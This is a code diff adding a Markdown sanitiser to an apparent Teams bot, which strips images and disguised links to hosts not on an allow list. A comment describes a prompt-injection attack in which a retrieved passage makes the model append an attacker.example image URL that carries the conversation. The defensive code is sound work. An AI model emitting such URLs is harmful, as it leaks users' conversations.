@@ -11,6 +11,8 @@ wider than the pane scrolls, which is better than code that is wrong.
 from __future__ import annotations
 
 import re
+from collections.abc import Iterable
+from urllib.parse import quote, urlsplit
 
 # The Markdown is stripped with a few regular expressions rather than a parser: excerpts are short snippets
 # whose Markdown is often broken (cut mid-emphasis), which a parser would keep as literal asterisks.
@@ -134,7 +136,88 @@ def _flat_lists(text: str) -> str:
     return re.sub(r"(?<!\n)\n(?=[ \t]*(?:• |\*\*\d{1,3}\.\*\* ))", "\n\n", text)
 
 
+# Exfiltration through what Teams renders: a retrieved passage can tell the model to append
+# `![s](https://attacker.example/p.png?d=<the conversation>)`, which Teams fetches as soon as it shows it, or a
+# disguised link. Images in model or source text are dropped unless their host is allowed
+# (CONTENT_ALLOWED_HOSTS, empty by default); links to other hosts become their text followed by the URL, in
+# plain sight; HTML <img> and <a> tags are shown as text. Set once at start-up by the worker (set_content_hosts).
+_content_hosts: tuple[frozenset[str], tuple[str, ...]] = (frozenset(), ())
+_MD_IMAGE = re.compile(r"!\[([^\][]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+\"[^\"<>()]*\")?\s*\)")
+_MD_LINK = re.compile(r"\[([^\][]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+\"[^\"<>()]*\")?\s*\)")
+_MD_REFERENCE = re.compile(
+    r"^[ \t]{0,3}\[[^\][]+\]:[ \t]*<?([A-Za-z][\w+.-]*:[^\s<>]*)>?(?:[ \t].*)?$", re.M
+)  # [ref]: url "title"
+_HTML_MEDIA = re.compile(r"<(?=(?:img|a|image|picture|source|video|audio|iframe|object|embed|svg|link)\b)", re.I)
+_URL_SAFE = "/:?#&=+,;@~*$%'-._"  # everything else, ( ) [ ] < > ! " ` and spaces included, is percent-encoded
+
+
+def set_content_hosts(hosts: Iterable[str]) -> None:
+    """Set the hosts whose images model and source text may show and whose links stay links: exact names or
+    `*.` wildcards (CONTENT_ALLOWED_HOSTS). Returns None."""
+    entries = [h.strip().lower() for h in hosts if h.strip()]
+    global _content_hosts
+    _content_hosts = (
+        frozenset(h for h in entries if not h.startswith("*.")),
+        tuple(h[1:] for h in entries if h.startswith("*.")),
+    )
+
+
+def host_allowed(url: str) -> bool:
+    """Return True when `url` is http(s) to a host in CONTENT_ALLOWED_HOSTS (never for other schemes)."""
+    try:
+        parts = urlsplit(url.strip())
+        host = (parts.hostname or "").lower()
+    except ValueError:
+        return False
+    exact, suffixes = _content_hosts
+    if parts.scheme not in ("http", "https") or not host or parts.username or parts.password:
+        return False
+    return host in exact or any(host.endswith(s) and len(host) > len(s) for s in suffixes)
+
+
+def safe_url(url: str) -> str:
+    """Return `url` percent-encoded so that it cannot end a Markdown link or start another (`)![x](…)`), or ''
+    when it is not an http(s) URL with a host."""
+    url = url.strip()
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return ""
+    if parts.scheme.lower() not in ("http", "https") or not parts.hostname or len(url) > 2048:
+        return ""
+    return quote(url, safe=_URL_SAFE)
+
+
+def escape_link_text(text: str) -> str:
+    """Return `text` safe inside `[...]` of a Markdown link: brackets and backslashes escaped, on one line."""
+    return re.sub(r"([\\\[\]])", r"\\\1", " ".join(text.split()))
+
+
+def no_exfiltration(markdown: str) -> str:
+    """Return `markdown` without images from hosts not allowed, with links to hosts not allowed written as
+    `text (URL)` and with HTML image and link tags shown as text. Linear in the text's length."""
+
+    def image(match: re.Match[str]) -> str:
+        return match.group(0) if host_allowed(match.group(2)) else ""
+
+    def link(match: re.Match[str]) -> str:
+        text, url = match.group(1), match.group(2)
+        if host_allowed(url):
+            return match.group(0)
+        shown = url.replace("`", "%60")
+        return f"{text} (`{shown}`)" if text.strip() and text.strip() != url else f"`{shown}`"
+
+    def reference(match: re.Match[str]) -> str:
+        return match.group(0) if host_allowed(match.group(1)) else f"`{match.group(0).strip()}`"
+
+    text = _MD_IMAGE.sub(image, markdown)
+    text = _MD_LINK.sub(link, text)
+    text = _MD_REFERENCE.sub(reference, text)
+    return _HTML_MEDIA.sub("&lt;", text)
+
+
 def teams_message_text(markdown: str) -> str:
     """Return Markdown for a Teams message: list items as bulleted paragraphs (so every [n] marker is an
-    interactive citation) and `<word>` placeholders made safe, outside code blocks; code as written."""
-    return _outside_code(markdown, lambda part: safe_placeholders(_flat_lists(part)))
+    interactive citation), `<word>` placeholders made safe and nothing that exfiltrates (`no_exfiltration`),
+    outside code blocks; code as written."""
+    return _outside_code(markdown, lambda part: safe_placeholders(_flat_lists(no_exfiltration(part))))
